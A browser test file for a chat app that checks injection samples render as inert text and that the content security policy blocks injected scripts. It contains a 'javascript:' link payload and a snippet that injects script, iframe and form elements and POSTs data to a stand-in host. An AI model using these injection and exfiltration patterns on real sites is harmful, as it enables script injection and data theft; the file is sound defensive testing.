/**
 * Injection attempts in every place of the page that shows text from outside: messages, names, titles, summaries,
 * search snippets and the prompt.
 */
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { stagePage } from "../support/stage-page.ts";
import type { StartedChat } from "../support/start-chat.ts";
import { INJECTION_SAMPLES } from "./injection-samples.ts";

const BATCH = 20;
const stage = stagePage();

const batches = Array.from({ length: Math.ceil(INJECTION_SAMPLES.length / BATCH) }, (_, index) =>
  INJECTION_SAMPLES.slice(index * BATCH, (index + 1) * BATCH),
);

/** Puts one sample into every field of three messages. */
function messagesOf(sample: string, { id, word }: { readonly id: string; readonly word: string }): readonly object[] {
  const source = { type: "url", url: `http://away.invalid/${id}.png` };
  return [
    { id: `${id}u`, role: "user", name: sample, parts: [text(`${word} ${sample}`), { type: "image", source }] },
    {
      id: `${id}a`,
      role: "assistant",
      parts: [
        { type: "reasoning", text: sample },
        text(sample),
        { type: "source", id: sample, url: `javascript:window.ran=1`, title: sample },
        { type: "file", source, mediaType: "text/html", name: sample },
        { type: "tool-call", callId: `${id}c`, tool: sample, input: { sample } },
      ],
    },
    {
      id: `${id}t`,
      role: "tool",
      parts: [
        { type: "tool-result", callId: `${id}c`, tool: sample, output: { type: "text", text: sample }, failed: true },
      ],
    },
  ];
}

const text = (content: string) => ({ type: "text", text: content });

async function fill({ server }: StartedChat): Promise<void> {
  for (const [index, samples] of batches.entries()) {
    const id = `batch${index}`;
    expect((await server.ask("POST", "/api/sessions", { id, title: samples[0] ?? "" })).status).toBe(200);
    const messages = samples.flatMap((sample, place) => messagesOf(sample, { id: `${id}-${place}`, word: id }));
    const added = await server.ask("POST", `/api/sessions/${id}/messages`, { messages, format: "palimpsest" });
    expect(added.body).toMatchObject({ messages: { length: messages.length } });
    const preview = await server.ask("POST", `/api/sessions/${id}/previews`, { instructions: samples.join(" ") });
    const path = `/api/sessions/${id}/previews`;
    const edited = await server.ask("PATCH", `${path}/${preview.body.previewId}`, { text: samples.join("\n") });
    const applied = await server.ask("POST", `${path}/${edited.body.previewId}/apply`, {});
    expect(applied.body.type).toBe("compacted");
  }
  for (const title of INJECTION_SAMPLES) await server.ask("POST", "/api/sessions", { title });
}

/** Elements that run code or fetch; the page itself draws none of them in these places. */
const ACTING =
  ":is(.message, .marker, .summary-card, .prompt-block, .session-list, h1) :is(script, style, iframe, frame, object, embed, link, meta, base, form, input:not([type=checkbox][disabled]), img, video, audio, source, track, template, math, portal, [onerror], [onload], [onclick], [style]:not(th, td))";

async function findActing(opened: Page): Promise<readonly string[]> {
  const acting = await opened.locator(ACTING).evaluateAll((found) => found.map((each) => each.outerHTML));
  const links = await opened
    .locator(":is(.message, .summary-card, .prompt-block) a")
    .evaluateAll((found) =>
      found
        .filter(
          (each) =>
            !/^(?:https?:\/\/|mailto:)/.test(each.getAttribute("href") ?? "") ||
            each.getAttribute("rel") !== "noopener noreferrer nofollow",
        )
        .map((each) => each.outerHTML),
    );
  return [...acting, ...links];
}

test("200 injection attempts are shown as text everywhere on the page", async () => {
  expect(INJECTION_SAMPLES.length).toBeGreaterThanOrEqual(200);
  await using chat = await stage.serve();
  await fill(chat);
  const { url } = chat.server;
  await using opened = await stage.open(url);
  const { page: shown, problems } = opened;
  const visited: string[] = [];
  shown.on("framenavigated", (frame) => visited.push(frame.url()));
  shown.context().on("page", (other) => visited.push(`opened ${other.url()}`));
  const titles = shown.locator(".session-list .session-title");
  await expect.poll(() => titles.count()).toBeGreaterThan(90);
  expect(await findActing(shown)).toEqual([]);
  for (const [index, samples] of batches.entries()) {
    const id = `batch${index}`;
    await shown.evaluate(`location.assign("#/sessions/${id}")`);
    const rows = shown.locator(`.message-assistant[data-seq]`);
    await expect.poll(() => rows.count()).toBe(samples.length);
    await shown.locator(".message details, .marker details").evaluateAll((folds) => {
      for (const fold of folds) fold.setAttribute("open", "");
    });
    expect(await findActing(shown), id).toEqual([]);
    await shown.getByRole("button", { name: "Inspect" }).click();
    await shown.locator(".prompt-block").first().waitFor();
    expect(await findActing(shown), id).toEqual([]);
    await shown.getByRole("tab", { name: "Summaries" }).click();
    await shown.locator(".summary-live .summary-text").first().waitFor();
    await shown.locator(".summary-card summary", { hasText: "Source messages" }).first().click();
    await shown.locator(".summary-card .prompt-block").first().waitFor();
    expect(await findActing(shown), id).toEqual([]);
    await shown.getByRole("searchbox").fill(id);
    await expect.poll(() => shown.locator(".snippet mark").count()).toBeGreaterThan(0);
    expect(await findActing(shown), id).toEqual([]);
    await shown.getByRole("searchbox").fill("");
    expect(await shown.evaluate("window.ran"), id).toBeUndefined();
  }
  expect(visited.filter((address) => !address.startsWith(`${url}/#/sessions/batch`))).toEqual([]);
  expect(problems).toEqual([]);
});

/** Inserts active elements into the page, as a successful injection would. */
const SLIPPED = `(async () => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
  const holder = document.createElement("div");
  document.body.append(holder);
  holder.innerHTML =
    '<img src="http://away.invalid/pixel.png"><button onclick="window.ran = 1">x</button><p style="color: red">x</p>' +
    '<iframe src="http://away.invalid/"></iframe><form action="http://away.invalid/"><button type="submit">y</button></form>';
  holder.querySelector("button").click();
  holder.querySelector("form button").click();
  const script = document.createElement("script");
  script.textContent = "window.ran = 1";
  holder.append(script);
  const other = document.createElement("script");
  other.src = "http://away.invalid/script.js";
  holder.append(other);
  await fetch("http://away.invalid/", { method: "POST", body: "words" }).catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 200));
  holder.remove();
  return { ran: window.ran, refused: [...new Set(refused)].sort() };
})()`;

test("the content security policy blocks scripts and requests of an injection that reached the page", async () => {
  await using chat = await stage.serve({ store: "memory:" });
  await using opened = await stage.open(chat.server.url);
  const { page: shown } = opened;
  const answered: string[] = [];
  shown.on("response", (response) => answered.push(new URL(response.url()).origin));
  await shown.locator(".start-choice").first().waitFor();
  expect(await shown.evaluate(SLIPPED)).toEqual({
    ran: undefined,
    refused: [
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
    ],
  });
  expect(answered.filter((origin) => origin !== chat.server.url)).toEqual([]);
});
